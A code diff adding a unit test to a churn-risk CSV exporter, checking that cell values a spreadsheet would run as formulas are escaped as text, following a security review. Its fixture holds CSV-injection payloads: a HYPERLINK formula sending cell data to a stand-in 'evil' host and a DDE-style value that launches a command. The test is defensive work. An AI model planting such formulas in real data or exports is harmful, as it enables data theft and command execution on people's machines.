@@ -447,3 +447,24 @@ def test_a_list_gives_only_the_reasons_that_move_the_probability_by_a_point():
     rows = [{"customer_id": "a", "reasons": [], "counter_reasons": material(reasons[:1]), "attributes": {}}]
     text = to_csv(rows, k=2, counter_k=1, columns=("customer_id",), none_said=said)
     assert text.splitlines()[1] == "a,No reason raises churn risk by 1 point or more,,a (raises churn risk)"
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    """A security review (2026-12-07): ids and attributes come from the CRM's data, where anyone may have
+    typed `=HYPERLINK(...)` or `@SUM(...)`; the list's CSV handed them to the spreadsheet as formulas."""
+    rows = [
+        {
+            "customer_id": '=HYPERLINK("http://evil/?"&A1,"click")',
+            "probability": 0.5,
+            "tier": "high",
+            "expected_spend": -12.5,
+            "value_at_risk": 1.0,
+            "attributes": {"country": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-5", "code": "+x", "plain": "UK"},
+        }
+    ]
+    header, line = to_csv(rows, k=0, attributes=["code", "country", "note", "plain", "=cmd"]).splitlines()
+    assert header.endswith(",value_at_risk,'=cmd,code,country,note,plain")
+    assert line == (
+        '"\'=HYPERLINK(""http://evil/?""&A1,""click"")",0.5000,high,-12.50,1.00,,\'+x,'
+        "'@SUM(1+1)*cmd|' /C calc'!A0,-5,UK"
+    )
